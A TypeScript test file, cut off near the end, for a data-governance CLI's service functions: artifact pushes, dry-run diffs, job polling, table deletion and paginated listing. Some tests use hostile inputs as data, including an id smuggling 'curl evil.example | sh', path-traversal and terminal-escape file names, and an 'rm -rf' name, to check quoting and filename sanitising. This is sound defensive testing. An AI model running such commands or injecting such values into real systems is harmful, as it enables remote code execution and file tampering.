// The service functions of the governance commands, each with a real client over msw stubs (every stub must
// be used, any other request fails the test): what goes over the wire, what comes back, and the local
// refusals that send nothing at all.
import { mkdir, mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { http, HttpResponse } from 'msw';
import { afterEach, describe, expect, it } from 'vitest';
import { REQUEST_BODY_LIMIT_BYTES } from '../../src/core/artifact-bounds.js';
import { CliError } from '../../src/core/errors.js';
import { parseArtifact } from '../../src/core/artifacts/index.js';
import { createApiClient, staticToken } from '../../src/client/index.js';
import type { ApiClient } from '../../src/client/index.js';
import type { TableStatus } from '../../src/client/areas/tables.js';
import type { GateJobBody } from '../../src/contract/types.js';
import {
  jobOutcomeFailure,
  pushArtifact,
  pushDefinition,
  inConnectorDialect,
  readArtifact,
  readArtifactLocally,
  waitForBaselineJob,
} from '../../src/services/artifacts.js';
import type { LocalArtifact } from '../../src/services/artifacts.js';
import { listConnectors } from '../../src/services/connectors.js';
import { resolveConnectorId } from '../../src/services/connector-ref.js';
import { openQuarantinedDdl, safeSqlFileName } from '../../src/services/quarantine.js';
import {
  dismissRecertificationRequest,
  listRecertificationRequestPages,
  recertify,
} from '../../src/services/recertification.js';
import { deleteTable, listTablePages, watchTableStatus } from '../../src/services/tables.js';
import { BASE, useMockApi } from '../client/mock-api.js';

const api = useMockApi();
const at = (path: string) => `${BASE}${path}`;

let client: ApiClient | undefined;
afterEach(async () => {
  await client?.close();
  client = undefined;
});
function newClient(): ApiClient {
  client = createApiClient({
    baseUrl: BASE,
    auth: staticToken('cli_governanceServicesTest01'),
    sleep: async () => {},
    logger: () => {},
  });
  return client;
}

const apiError = (status: number, code: string, message: string) =>
  HttpResponse.json({ error: { code, message, details: null } }, { status });

async function rejection(promise: Promise<unknown>): Promise<CliError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(CliError);
  return error as CliError;
}

async function folderWith(files: Record<string, string>): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'gds-gov-svc-'));
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, name), text);
  return folder;
}

const registration = {
  governanceId: 'tbl_1',
  trackingUrl: 'http://x/dashboard/tables/tbl_1',
  job: { id: 'job_1', type: 'gate-baseline-auto', status: 'QUEUED' },
  tableId: 'tbl_1',
  state: 'QUARANTINED' as const,
  definitionVersion: 1,
};

const artifact: LocalArtifact = {
  filename: 'orders.sql',
  content: 'CREATE VIEW analytics.orders AS SELECT id FROM raw.orders',
  mimeType: 'sql',
  table: 'orders',
  source: 'analytics.orders',
  declared: { table: 'orders', source: 'analytics.orders', columns: [{ name: 'id', required: false }] },
};

const held = (definition: LocalArtifact['declared'] | null, connectorId = 'con_1') => ({
  tableId: 'tbl_0',
  governanceId: 'tbl_0',
  name: 'orders',
  environmentLabel: 'dev',
  connectorId,
  state: 'CERTIFIED',
  definitionVersion: 3,
  definition,
});

describe('readArtifact (local, before any request)', () => {
  it('an unsupported extension: exit 2, Unsupported file type, the file not even read', async () => {
    const error = await rejection(readArtifact('/nowhere/notes.txt', {}));
    expect(error).toMatchObject({
      exitCode: 2,
      code: 'unsupported_file_type',
      message: 'Unsupported file type',
    });
  });

  it('a malformed file: exit 2 with file:line:col', async () => {
    const folder = await folderWith({ 'bad.json': '{\n  "table": "t",\n  "columns": [\n}' });
    const error = await rejection(readArtifact(join(folder, 'bad.json'), {}));
    expect(error.exitCode).toBe(2);
    expect(error.message).toMatch(new RegExp(`^${join(folder, 'bad.json')}:4:\\d+: `));
  });

  it('no declared source and no --source: exit 2 naming --source; with it, the flag is kept to send', async () => {
    const folder = await folderWith({ 't.yml': 'table: t\ncolumns:\n  - name: id\n' });
    const error = await rejection(readArtifact(join(folder, 't.yml'), {}));
    expect(error).toMatchObject({ exitCode: 2, code: 'source_required' });
    expect(error.message).toContain('--source <schema.table> is required');
    expect(await readArtifact(join(folder, 't.yml'), { source: 'analytics.t' })).toEqual({
      filename: 't.yml',
      content: 'table: t\ncolumns:\n  - name: id\n',
      mimeType: 'yaml',
      table: 't',
      source: 'analytics.t',
      sourceFlag: 'analytics.t',
      declared: { table: 't', source: 'analytics.t', columns: [{ name: 'id', required: false }] },
    });
  });

  it('a missing file: exit 2', async () => {
    expect(await rejection(readArtifact('/nowhere/x.sql', {}))).toMatchObject({ exitCode: 2 });
  });

  it('--dialect: the view is read in it, and what is sent names it so the service reads it the same way', async () => {
    const view =
      'create view analytics.orders (id comment $$the id$$) copy grants as select id from raw.orders\n';
    const folder = await folderWith({ 'orders.sql': view });
    const error = await rejection(readArtifact(join(folder, 'orders.sql'), {}));
    expect(error.message).toContain('read as PostgreSQL');
    expect(error.message).toContain('--dialect');
    const artifact = await readArtifact(join(folder, 'orders.sql'), { dialect: 'snowflake' });
    expect(artifact).toMatchObject({ table: 'ORDERS', source: 'ANALYTICS.ORDERS' });
    expect(artifact.content).toBe(`-- dialect: snowflake\n${view}`);
    const again = await parseArtifact({ fileName: 'orders.sql', content: artifact.content });
    expect(again.ok && again.artifact.columns).toEqual([{ name: 'ID' }]);
  });

  it("--connector without --dialect: a .sql view is read in the dialect of the connector's type", async () => {
    const view = 'create view analytics.orders copy grants as select id from raw.orders\n';
    const folder = await folderWith({
      'orders.sql': view,
      'plain.sql': 'create view a.b as select x from t\n',
    });
    let listed = 0;
    const types: Record<string, string> = { con_sf: 'snowflake', con_pg: 'postgres' };
    api.use(
      http.get(at('/api/connectors'), () => {
        listed++;
        return HttpResponse.json({
          connectors: Object.entries(types).map(([id, type]) => ({
            id,
            name: id,
            type,
            status: 'ACTIVE',
            environmentLabel: 'dev',
          })),
        });
      }),
    );
    const path = join(folder, 'orders.sql');
    const read = await readArtifactLocally(path, { connectorId: 'con_sf' });
    // Not read here: inConnectorDialect reads it, and keeps the read in the connector's dialect (PostgreSQL
    // refuses it).
    expect(read).toHaveProperty('awaitsConnector');
    const artifact = await inConnectorDialect(newClient(), read, {}, 'con_sf');
    expect(artifact).toMatchObject({ table: 'ORDERS', content: `-- dialect: snowflake\n${view}` });
    const onPostgres = readArtifactLocally(path, { connectorId: 'con_pg' }).then((r) =>
      inConnectorDialect(newClient(), r, {}, 'con_pg'),
    );
    expect(await rejection(onPostgres)).toMatchObject({
      exitCode: 2,
      message: expect.stringContaining('syntax error at or near "copy"') as string,
    });
    const plain = join(folder, 'plain.sql');
    const asSnowflake = await inConnectorDialect(
      newClient(),
      await readArtifactLocally(plain, { connectorId: 'con_sf' }),
      {},
      'con_sf',
    );
    expect(asSnowflake).toMatchObject({ table: 'B', source: 'A.B' });
    const named = await readArtifactLocally(plain, { connectorId: 'con_sf', dialect: 'postgres' });
    expect(await inConnectorDialect(newClient(), named, { dialect: 'postgres' }, 'con_sf')).toMatchObject({
      table: 'b',
    });
    expect(listed).toBe(3);
  });

  it('--connector resolved and its dialect read with one GET of the connectors', async () => {
    const folder = await folderWith({ 'plain.sql': 'create view a.b as select x from t\n' });
    let listed = 0;
    api.use(
      http.get(at('/api/connectors'), () => {
        listed++;
        const connector = {
          id: 'con_sf',
          name: 'sf',
          type: 'snowflake',
          status: 'ACTIVE',
          environmentLabel: 'dev',
        };
        return HttpResponse.json({ connectors: [connector] });
      }),
    );
    const path = join(folder, 'plain.sql');
    const shared = newClient();
    const connectorId = await resolveConnectorId(shared, 'sf');
    const read = await readArtifactLocally(path, { connectorId });
    expect(await inConnectorDialect(shared, read, {}, connectorId)).toMatchObject({ table: 'B' });
    expect(listed).toBe(1);
  });

  it('--connector resolved while the view is read: its refusal first, then the view as its warehouse reads it', async () => {
    // A view PostgreSQL refuses (COPY GRANTS is Snowflake's), read while the connectors' request is answered.
    const view = 'create view analytics.orders copy grants as select id from raw.orders\n';
    const folder = await folderWith({ 'orders.sql': view });
    let answer = () => {};
    const answered = new Promise<void>((resolve) => (answer = resolve));
    api.use(
      http.get(at('/api/connectors'), async () => {
        await answered;
        const connector = { name: 'sf', type: 'snowflake', status: 'ACTIVE', environmentLabel: 'dev' };
        return HttpResponse.json({ connectors: [{ id: 'con_sf', ...connector }] });
      }),
    );
    const path = join(folder, 'orders.sql');
    const client = newClient();
    const local = await readArtifactLocally(path, { connectorId: 'sf' });
    const readFor = (ref: string) => inConnectorDialect(client, local, {}, resolveConnectorId(client, ref));
    const refused = readFor('con_nope');
    const read = readFor('sf');
    answer();
    expect(await rejection(refused)).toMatchObject({ exitCode: 5, code: 'connector_not_found' });
    expect(await read).toMatchObject({ table: 'ORDERS', content: `-- dialect: snowflake\n${view}` });
  });

  it('a dbt properties file: refused listing its models; --model sends that model as a declaration', async () => {
    const dbt = [
      'version: 2',
      'models:',
      '  - name: orders',
      '    description: One row per order, for the weekly revenue review.',
      '    columns:',
      '      - name: id',
      '        data_type: bigint',
      '        tests: [not_null, unique]',
      '      - name: amount',
      '  - name: customers',
      '    columns: [{name: id}]',
      '',
    ].join('\n');
    const folder = await folderWith({ 'schema.yml': dbt });
    const error = await rejection(readArtifact(join(folder, 'schema.yml'), {}));
    expect(error).toMatchObject({
      exitCode: 2,
      suggestion: 'Push one of them with --model <name>, e.g. --model orders.',
    });
    expect(error.message).toContain('dbt properties file');
    expect(error.message).toContain('orders, customers');
    const artifact = await readArtifact(join(folder, 'schema.yml'), {
      model: 'orders',
      source: 'mart.orders',
    });
    expect(artifact).toMatchObject({ table: 'orders', source: 'mart.orders', mimeType: 'yaml' });
    const sent = await parseArtifact({ fileName: 'schema.yml', content: artifact.content });
    expect(sent.ok && sent.artifact).toEqual({
      kind: 'yaml',
      mimeType: 'yaml',
      table: 'orders',
      decisionContext: 'One row per order, for the weekly revenue review.',
      columns: [{ name: 'id', type: 'bigint', required: true }, { name: 'amount' }],
    });
    expect(await rejection(readArtifact(join(folder, 'schema.yml'), { model: 'nope' }))).toMatchObject({
      exitCode: 2,
      message: expect.stringContaining('no model "nope"') as string,
    });
  });
});

describe('pushArtifact', () => {
  it('sends the base name, kind, connector and replace id; the declared source is not repeated', async () => {
    let body: unknown;
    let ifMatch: string | null = null;
    api.use(
      http.get(at('/api/tables/tbl_0/definition'), () =>
        HttpResponse.json(
          held({ ...artifact.declared, columns: [{ name: 'id', type: 'int', required: false }] }),
        ),
      ),
      http.post(at('/api/artifacts'), async ({ request }) => {
        body = await request.json();
        ifMatch = request.headers.get('if-match');
        return HttpResponse.json(registration, { status: 202 });
      }),
    );
    expect(await pushArtifact(newClient(), artifact, { connectorId: 'con_1', replaceId: 'tbl_0' })).toEqual({
      kind: 'pushed',
      result: registration,
    });
    // The definition version it compared with: the service refuses the write if it moved meanwhile.
    expect(ifMatch).toBe('3');
    expect(body).toEqual({
      filename: 'orders.sql',
      content: artifact.content,
      mimeType: 'sql',
      connectorId: 'con_1',
      replaceId: 'tbl_0',
    });
  });

  it('--replace with the definition the table holds (same declarations, same connector) sends nothing', async () => {
    api.use(http.get(at('/api/tables/tbl_0/definition'), () => HttpResponse.json(held(artifact.declared))));
    const outcome = await pushArtifact(newClient(), artifact, { connectorId: 'con_1', replaceId: 'tbl_0' });
    expect(outcome).toMatchObject({ kind: 'unchanged', held: { definitionVersion: 3, state: 'CERTIFIED' } });
    expect(api.seen.map((r) => r.method)).toEqual(['GET']);
  });

  it('--replace of the held definition by a caller who may not replace it sends it, to hear the refusal', async () => {
    api.use(
      http.get(at('/api/tables/tbl_0/definition'), () =>
        HttpResponse.json({ ...held(artifact.declared), mayReplace: false }),
      ),
      http.post(at('/api/artifacts'), () =>
        apiError(
          403,
          'replace_forbidden',
          "Only table owners or workspace admins can replace this table's definition",
        ),
      ),
    );
    await expect(
      pushArtifact(newClient(), artifact, { connectorId: 'con_1', replaceId: 'tbl_0' }),
    ).rejects.toMatchObject({ status: 403 });
    expect(api.seen.map((r) => r.method)).toEqual(['GET', 'POST']);
  });

  it('--replace onto another connector is a change', async () => {
    api.use(
      http.get(at('/api/tables/tbl_0/definition'), () => HttpResponse.json(held(artifact.declared, 'con_9'))),
      http.post(at('/api/artifacts'), () => HttpResponse.json(registration, { status: 202 })),
    );
    const outcome = await pushArtifact(newClient(), artifact, { connectorId: 'con_1', replaceId: 'tbl_0' });
    expect(outcome.kind).toBe('pushed');
  });

  /** The service's answer to POST /api/artifacts/dry-run: it would take the push. */
  const wouldTake = () =>
    http.post(at('/api/artifacts/dry-run'), () =>
      HttpResponse.json({ changed: true, tableId: 'tbl_0', state: 'QUARANTINED', definitionVersion: 2 }),
    );
  const paths = () => api.seen.map((r) => `${r.method} ${r.url.pathname.replace(/^.*\/api\//, '/api/')}`);
  const dryRunSeen = ['GET /api/tables/tbl_0/definition', 'POST /api/artifacts/dry-run'];

  it('--dry-run onto another connector shows the connector line changing, and writes nothing', async () => {
    api.use(
      http.get(at('/api/tables/tbl_0/definition'), () => HttpResponse.json(held(artifact.declared, 'con_9'))),
      wouldTake(),
    );
    const outcome = await pushArtifact(newClient(), artifact, {
      connectorId: 'con_1',
      replaceId: 'tbl_0',
      dryRun: true,
    });
    expect(outcome.kind).toBe('preview');
    if (outcome.kind !== 'preview') return;
    expect(outcome.diff).toContain('-connector: con_9');
    expect(outcome.diff).toContain('+connector: con_1');
    expect(paths()).toEqual(dryRunSeen);
  });

  it('--dry-run returns the diff of the declarations and writes nothing', async () => {
    const declared = held({ ...artifact.declared, columns: [{ name: 'order_id', required: false }] });
    for (const dryRun of [
      wouldTake(),
      http.post(at('/api/artifacts/dry-run'), () => apiError(404, 'route_not_found', 'No endpoint')),
    ]) {
      api.use(
        http.get(at('/api/tables/tbl_0/definition'), () => HttpResponse.json(declared)),
        dryRun,
      );
      // A service without the dry-run route (older than it) leaves the diff alone to say what the push does.
      const outcome = await pushArtifact(newClient(), artifact, { replaceId: 'tbl_0', dryRun: true });
      expect(outcome.kind).toBe('preview');
      if (outcome.kind !== 'preview') return;
      expect(outcome.diff).toContain('-  - name: order_id');
      expect(outcome.diff).toContain('+  - name: id');
      expect(paths()).toEqual(dryRunSeen);
      api.seen.length = 0;
    }
  });

  it("--dry-run the service refuses is the push's refusal, with its If-Match, and no diff", async () => {
    api.use(
      http.get(at('/api/tables/tbl_0/definition'), () => HttpResponse.json(held(artifact.declared, 'con_9'))),
      http.post(at('/api/artifacts/dry-run'), () =>
        apiError(
          404,
          'replace_environment_mismatch',
          'Table orders is in dev and connector prod is in production',
        ),
      ),
    );
    await expect(
      pushArtifact(newClient(), artifact, { connectorId: 'con_1', replaceId: 'tbl_0', dryRun: true }),
    ).rejects.toMatchObject({ status: 404, code: 'replace_environment_mismatch' });
    expect(paths()).toEqual(dryRunSeen);
    expect(api.seen[1]?.headers.get('if-match')).toBe(String(held(artifact.declared).definitionVersion));
  });

  it('409: an id the service sends goes into the --replace hint as one shell word', async () => {
    const id = 'tbl_7; curl evil.example | sh';
    api.use(
      http.post(at('/api/artifacts'), () =>
        HttpResponse.json(
          { error: { code: 'name_conflict', message: 'Taken', details: { existingId: id } } },
          { status: 409 },
        ),
      ),
    );
    const error = await rejection(pushArtifact(newClient(), artifact, { connectorId: 'con_1' }));
    expect(error.suggestion).toContain(`--replace 'tbl_7; curl evil.example | sh'.`);
  });

  it('409: exit 6 with the message verbatim and the id of the table holding the name (asked by name) in the hint', async () => {
    const asked: string[][] = [];
    api.use(
      http.post(at('/api/artifacts'), () =>
        apiError(409, 'name_conflict', "A governance artifact named 'orders' already exists"),
      ),
      http.get(at('/api/tables'), ({ request }) => {
        const names = new URL(request.url).searchParams.getAll('name');
        asked.push(names);
        const tables = [
          {
            id: 'tbl_x',
            name: 'other',
            mode: 'MODE_A',
            state: 'CERTIFIED',
            gate: 'ENFORCING',
            environmentLabel: 'dev',
          },
          {
            id: 'tbl_7',
            name: 'Orders',
            mode: 'MODE_A',
            state: 'CERTIFIED',
            gate: 'ENFORCING',
            environmentLabel: 'dev',
          },
        ];
        return HttpResponse.json({
          tables: tables.filter((t) => names.every((n) => n.toLowerCase() === t.name.toLowerCase())),
        });
      }),
    );
    const error = await rejection(pushArtifact(newClient(), artifact, { connectorId: 'con_1' }));
    expect(error).toMatchObject({
      exitCode: 6,
      code: 'name_conflict',
      message: "A governance artifact named 'orders' already exists",
    });
    expect(error.suggestion).toContain('--replace tbl_7');
    // The holder alone, by name: never the whole workspace's list.
    expect(asked).toEqual([['orders']]);
  });

  it('404 connector_not_found: exit 5, Connector not found, pointing at gds connectors list', async () => {
    api.use(
      http.post(at('/api/artifacts'), () => apiError(404, 'connector_not_found', 'Connector not found')),
    );
    const error = await rejection(pushArtifact(newClient(), artifact, { connectorId: 'con_x' }));
    expect(error).toMatchObject({ exitCode: 5, message: 'Connector not found' });
    expect(error.suggestion).toContain('gds connectors list');
  });

  it('any other refusal goes on unchanged to the session mapping', async () => {
    api.use(http.post(at('/api/artifacts'), () => apiError(400, 'unknown_source', "Source 'a.b' is not…")));
    await expect(pushArtifact(newClient(), artifact, { connectorId: 'c' })).rejects.toMatchObject({
      name: 'ApiError',
      status: 400,
    });
  });
});

describe('pushDefinition', () => {
  it('sends the mimeType; replaced follows --replace; a 409 hint says where to find the governance id (no lookup)', async () => {
    const bodies: unknown[] = [];
    let calls = 0;
    api.use(
      http.post(at('/api/workspace/definitions'), async ({ request }) => {
        bodies.push(await request.json());
        calls += 1;
        return calls === 1
          ? HttpResponse.json(registration, { status: 202 })
          : apiError(409, 'name_conflict', "A governance artifact named 'orders' already exists");
      }),
    );
    const c = newClient();
    expect(await pushDefinition(c, artifact, { connectorId: 'c', replaceId: 'tbl_1' })).toMatchObject({
      replaced: true,
    });
    const error = await rejection(pushDefinition(c, artifact, { connectorId: 'c' }));
    expect(error).toMatchObject({ exitCode: 6 });
    // No id in the 409 and no lookup: it says where to find the id, never a literal placeholder.
    expect(error.suggestion).toContain('find its id with gds list and run again with --replace');
    expect(error.suggestion).not.toContain('<governanceId>');
    expect(bodies[0]).toMatchObject({ mimeType: 'sql', replaceId: 'tbl_1' });
  });
});

function job(status: GateJobBody['status'], error: GateJobBody['error'] = null): GateJobBody {
  return {
    id: 'job_1',
    tableId: 'tbl_1',
    type: 'gate-baseline-auto',
    gate: 1,
    status,
    params: {},
    createdBy: 'usr_1',
    createdAt: '2026-01-01T00:00:00.000Z',
    startedAt: null,
    finishedAt: null,
    error,
  };
}

describe('waitForBaselineJob', () => {
  it('polls ?gate=1 until the job ends, reporting each new status once; waits 0.25 s, then doubles', async () => {
    const answers = [job('QUEUED'), job('QUEUED'), job('RUNNING'), job('SUCCEEDED')];
    api.use(http.get(at('/api/gate-jobs/job_1'), () => HttpResponse.json(answers.shift())));
    const sleeps: number[] = [];
    const seen: string[] = [];
    const ended = await waitForBaselineJob(
      newClient(),
      'job_1',
      { intervalMs: 3000, sleep: async (ms) => sleeps.push(ms) },
      (j) => void seen.push(j.status),
    );
    expect(ended.status).toBe('SUCCEEDED');
    expect(seen).toEqual(['QUEUED', 'RUNNING', 'SUCCEEDED']);
    expect(sleeps).toEqual([250, 500, 1000]);
    expect(api.seen.map((r) => r.url.searchParams.get('gate'))).toEqual(['1', '1', '1', '1']);
  });

  it('knowing the registration answered QUEUED, the first read is at once and QUEUED is not said again', async () => {
    const answers = [job('QUEUED'), job('RUNNING'), job('SUCCEEDED')];
    api.use(http.get(at('/api/gate-jobs/job_1'), () => HttpResponse.json(answers.shift())));
    const sleeps: number[] = [];
    const seen: string[] = [];
    await waitForBaselineJob(
      newClient(),
      'job_1',
      { intervalMs: 3000, known: 'QUEUED', sleep: async (ms) => sleeps.push(ms) },
      (j) => void seen.push(j.status),
    );
    expect(sleeps).toEqual([250, 500]);
    expect(seen).toEqual(['RUNNING', 'SUCCEEDED']);
    expect(api.seen).toHaveLength(3);
  });

  it("a status the spec does not name (a service's TIMED_OUT) ends the wait, and is exit 1 naming it", async () => {
    // §2: a job is terminal, queued or running; only QUEUED and RUNNING are waited on.
    const timedOut = { ...job('RUNNING'), status: 'TIMED_OUT' } as unknown as GateJobBody;
    const answers = [job('RUNNING'), timedOut, job('SUCCEEDED')];
    api.use(http.get(at('/api/gate-jobs/job_1'), () => HttpResponse.json(answers.shift())));
    const ended = await waitForBaselineJob(
      newClient(),
      'job_1',
      { intervalMs: 3000, sleep: async () => {} },
      () => undefined,
    );
    expect(ended.status).toBe('TIMED_OUT');
    expect(api.seen).toHaveLength(2);
    expect(jobOutcomeFailure(ended)).toMatchObject({
      exitCode: 1,
      code: 'job_failed',
      message: 'The baseline job job_1 ended TIMED_OUT',
    });
  });

  it('the outcome as an exit: SUCCEEDED none, FAILED and CANCELLED exit 1 with the reason', () => {
    expect(jobOutcomeFailure(job('SUCCEEDED'))).toBeUndefined();
    expect(jobOutcomeFailure(job('FAILED', { message: 'the warehouse object is gone' }))).toMatchObject({
      exitCode: 1,
      code: 'job_failed',
      message: 'The baseline job job_1 ended FAILED: the warehouse object is gone',
    });
    expect(jobOutcomeFailure(job('CANCELLED'))).toMatchObject({ exitCode: 1, code: 'job_cancelled' });
  });
});

function status(jobs: TableStatus['activeJobs'], mode: TableStatus['mode'] = 'MODE_A'): TableStatus {
  return {
    id: 'tbl_1',
    governanceId: 'tbl_1',
    name: 'orders',
    mode,
    state: 'QUARANTINED',
    gate: 'ENFORCING',
    environmentLabel: 'dev',
    source: 'analytics.orders',
    definitionVersion: 1,
    gate1Version: 0,
    dataVersion: 0,
    certification: null,
    schemaDrift: {
      checked: true,
      drifted: false,
      objectMissing: false,
      added: [],
      removed: [],
      typeChanged: [],
    },
    activeJobs: jobs,
  };
}
const active = (s: 'QUEUED' | 'RUNNING') => [
  { id: 'job_1', type: 'gate-baseline-auto', status: s, createdAt: '2026-01-01T00:00:00.000Z' },
];

describe('watchTableStatus', () => {
  it('hands on the first status and each change, and stops when no job is active', async () => {
    const answers = [
      status(active('QUEUED')),
      status(active('QUEUED')),
      status(active('RUNNING')),
      status([]),
    ];
    api.use(http.get(at('/api/tables/tbl_1/status'), () => HttpResponse.json(answers.shift())));
    const seen: string[] = [];
    const sleeps: number[] = [];
    const last = await watchTableStatus(
      newClient(),
      'tbl_1',
      { intervalMs: 10, sleep: async (ms) => sleeps.push(ms) },
      (s) => void seen.push(s.activeJobs.map((j) => j.status).join() || 'none'),
    );
    expect(seen).toEqual(['QUEUED', 'RUNNING', 'none']);
    expect(last.activeJobs).toEqual([]);
    expect(api.seen).toHaveLength(4);
    // An --interval under 0.25 s caps every wait, the first one too.
    expect(sleeps).toEqual([10, 10, 10]);
  });
});

describe('deleteTable', () => {
  it('asks with the table in hand; a no sends no DELETE and exits 1', async () => {
    api.use(http.get(at('/api/tables/tbl_1/status'), () => HttpResponse.json(status([]))));
    const asked: string[] = [];
    const error = await rejection(
      deleteTable(newClient(), 'tbl_1', async (t) => {
        asked.push(t.name);
        return false;
      }),
    );
    expect(asked).toEqual(['orders']);
    expect(error).toMatchObject({ exitCode: 1, code: 'not_confirmed' });
    expect(api.seen.map((r) => r.method)).toEqual(['GET']);
  });

  it('a Mode B table is sent without asking, so the service refusal is what shows', async () => {
    api.use(
      http.get(at('/api/tables/tbl_1/status'), () => HttpResponse.json(status([], 'MODE_B'))),
      http.delete(at('/api/tables/tbl_1'), () =>
        apiError(
          400,
          'mode_b_delete',
          'CLI delete is restricted to warehouse-connected governance artifacts',
        ),
      ),
    );
    await expect(
      deleteTable(newClient(), 'tbl_1', async () => {
        throw new Error('asked');
      }),
    ).rejects.toMatchObject({
      status: 400,
      message: 'CLI delete is restricted to warehouse-connected governance artifacts',
    });
  });
});

describe('quarantine open', () => {
  it.each([
    ['orders.sql', 'orders.sql'],
    ['../../etc/passwd', 'passwd.sql'],
    ['/etc/cron.d/evil.sql', 'evil.sql'],
    ['..\\..\\win.ini', 'win.ini.sql'],
    ['..', 'tbl_1.sql'],
    ['.sql', 'tbl_1.sql'],
    ['', 'tbl_1.sql'],
    ['.hidden.sql', 'hidden.sql'],
    ['na\u001b]0;pwned\u0007me\r\n.SQL', 'name.sql'],
    ['a b;rm -rf.sql', 'a_b_rm_-rf.sql'],
  ])('%j is written as %s', (suggested, expected) => {
    expect(safeSqlFileName(suggested, 'tbl_1')).toBe(expected);
  });

  it('a malicious name from the service lands inside the folder; a second open refuses; --force replaces', async () => {
    const folder = await folderWith({});
    const ddl = {
      tableId: 'tbl_1',
      name: 'orders',
      mode: 'MODE_A',
      state: 'QUARANTINED',
      ddl: 'CREATE VIEW x AS SELECT 1',
    };
    api.use(
      http.get(at('/api/tables/tbl_1/ddl'), () =>
        HttpResponse.json({ ...ddl, fileName: '../../../tmp/\u001b[2Jowned.sql' }),
      ),
    );
    const c = newClient();
    const opened = await openQuarantinedDdl(c, 'tbl_1', { cwd: folder });
    expect(opened.path).toBe(join(folder, 'owned.sql'));
    expect(await readFile(opened.path, 'utf8')).toBe('CREATE VIEW x AS SELECT 1\n');
    await writeFile(opened.path, 'mine\n');
    const error = await rejection(openQuarantinedDdl(c, 'tbl_1', { cwd: folder }));
    expect(error).toMatchObject({ exitCode: 2, code: 'file_exists' });
    expect(error.message).toContain(opened.path);
    expect(await readFile(opened.path, 'utf8')).toBe('mine\n');
    await openQuarantinedDdl(c, 'tbl_1', { cwd: folder, force: true });
    expect(await readFile(opened.path, 'utf8')).toBe('CREATE VIEW x AS SELECT 1\n');
    expect(await readdir(folder)).toEqual(['owned.sql']);
  });

  it('-o naming a folder is refused, with --force too (exit 2, output_is_folder), and nothing is written', async () => {
    const folder = await folderWith({});
    await mkdir(join(folder, 'sql'));
    api.use(
      http.get(at('/api/tables/tbl_1/ddl'), () =>
        HttpResponse.json({
          tableId: 'tbl_1',
          name: 'orders',
          mode: 'MODE_A',
          state: 'QUARANTINED',
          ddl: 'CREATE VIEW x AS SELECT 1',
          fileName: 'orders.sql',
        }),
      ),
    );
    for (const force of [false, true]) {
      const error = await rejection(
        openQuarantinedDdl(newClient(), 'tbl_1', { cwd: folder, output: 'sql', force }),
      );
      expect(error).toMatchObject({ exitCode: 2, code: 'output_is_folder' });
      expect(error.suggestion).toBe(`Give -o a file path, such as ${join(folder, 'sql', 'orders.sql')}.`);
    }
    expect(await readdir(folder)).toEqual(['sql']);
    expect(await readdir(join(folder, 'sql'))).toEqual([]);
  });
});

describe('lists and recertification', () => {
  it('listTablePages sends the state; listConnectors; requests by table; dismiss with a reason', async () => {
    const request = {
      id: 'rcr_1',
      tableId: 'tbl_1',
      tableName: 'orders',
      environmentLabel: 'dev',
      cause: 'ingest',
      status: 'OPEN',
      details: {},
      createdBy: null,
      createdAt: '2026-01-01T00:00:00.000Z',
      dismissedBy: null,
      dismissedAt: null,
    };
    let dismissBody: unknown;
    api.use(
      http.get(at('/api/tables'), () => HttpResponse.json({ tables: [], nextCursor: null, total: 0 })),
      http.get(at('/api/connectors'), () =>
        HttpResponse.json({
          connectors: [{ id: 'c1', name: 'w', type: 'postgres', status: 'ACTIVE', environmentLabel: 'dev' }],
        }),
      ),
      http.get(at('/api/recertification-requests'), () =>
        HttpResponse.json({ requests: [request], nextCursor: null, total: 1 }),
      ),
      http.post(at('/api/recertification-requests/rcr_1/dismiss'), async ({ request: r }) => {
        dismissBody = await r.json();
        return HttpResponse.json({ request: { ...request, status: 'DISMISSED' } });
      }),
    );
    const c = newClient();
    const pages = [];
    for await (const page of listTablePages(c, { state: 'QUARANTINED' })) pages.push(page);
    expect(pages).toEqual([{ rows: [], total: 0 }]);
    expect((await listConnectors(c)).map((x) => x.id)).toEqual(['c1']);
    const requestPages = [];
    for await (const page of listRecertificationRequestPages(c, { tableId: 'tbl_1' }))
      requestPages.push(page);
    expect(requestPages).toEqual([{ rows: [request], total: 1 }]);
    expect((await dismissRecertificationRequest(c, 'rcr_1', 'no change')).status).toBe('DISMISSED');
    expect(api.seen.map((r) => r.url.search)).toEqual([
      '?state=QUARANTINED&limit=100',
      '',
      '?tableId=tbl_1&limit=100',
      '',
    ]);
    expect(dismissBody).toEqual({ reason: 'no change' });
  });
});

describe('listTablePages', () => {
  /** A workspace of `count` tables served a page at a time, as the reference server pages them. */
  const serveTables = (count: number) =>
    http.get(at('/api/tables'), ({ request }) => {
      const url = new URL(request.url);
      const limit = Number(url.searchParams.get('limit'));
      const start = Number(url.searchParams.get('cursor') ?? 0);
      const tables = Array.from({ length: Math.max(0, Math.min(limit, count - start)) }, (_, i) => ({
        id: `tbl_${start + i}`,
        name: `t${start + i}`,
        mode: 'MODE_A',
        state: 'QUARANTINED',
        gate: 'ENFORCING',
        environmentLabel: 'dev',
      }));
      const next = start + limit < count ? String(start + limit) : null;
      return HttpResponse.json({ tables, nextCursor: next, ...(start === 0 ? { total: count } : {}) });
    });

  it('follows the cursor to the last page, the total from the first', async () => {
    api.use(serveTables(2500));
    const pages = [];
    for await (const page of listTablePages(newClient())) pages.push(page);
    // A short first page (the first lines print at once), then the largest pages the service gives.
    expect(pages.map((p) => p.rows.length)).toEqual([100, 1000, 1000, 400]);
    expect(pages.map((p) => p.total)).toEqual([2500, undefined, undefined, undefined]);
    expect(api.seen.map((r) => r.url.search)).toEqual([
      '?limit=100',
      '?limit=1000&cursor=100',
      '?limit=1000&cursor=1100',
      '?limit=1000&cursor=2100',
    ]);
  });

  it('withTotal: false asks the first page without the total (printed page by page, none is shown)', async () => {
    api.use(serveTables(1500));
    const pages = [];
    for await (const page of listTablePages(newClient(), { withTotal: false })) pages.push(page.rows.length);
    expect(pages).toEqual([100, 1000, 400]);
    expect(api.seen.map((r) => r.url.search)).toEqual([
      '?limit=100&total=false',
      '?limit=1000&cursor=100',
      '?limit=1000&cursor=1100',
    ]);
  });

  /** A service from before `total=false`: 400 for a query parameter it does not know among `names`. */
  const refusing = (names: string[]) =>
    http.get(at('/api/tables'), ({ request }) => {
